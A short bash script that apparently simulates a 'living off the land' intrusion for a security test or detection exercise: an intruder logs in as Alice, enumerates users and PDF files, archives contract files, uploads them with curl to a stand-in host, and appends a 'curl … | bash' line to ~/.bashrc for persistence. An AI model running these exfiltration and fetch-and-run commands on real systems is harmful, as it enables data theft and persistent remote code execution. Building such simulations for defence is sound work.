#!/bin/bash
# An intruder logs in with Alice's key and uses nothing but programs that she and the host's jobs use every day.
# living-off-the-land.sh KEYS FILES SECONDS
keys=$1
. "$(dirname "$0")/../clients/ssh.sh"

type_lines 1 <<'END' | login alice 203.0.113.66 -tt
[ -e /stage/sus-up-2 ]
ls -la
ps aux | grep -v grep | grep ssh
cat /etc/passwd | cut -d: -f1,6
find /home /srv -name '*.pdf' | head -n 20
[ -e /stage/evil ]
cd /srv/data/contracts
tar czf /tmp/page contract-1*.pdf
curl -s --data-binary @/tmp/page http://198.51.100.7:8000/
rm /tmp/page
cat ~/.ssh/authorized_keys | tail -n 1
echo 'curl -s http://198.51.100.7:8000/next | bash' >> ~/.bashrc
END
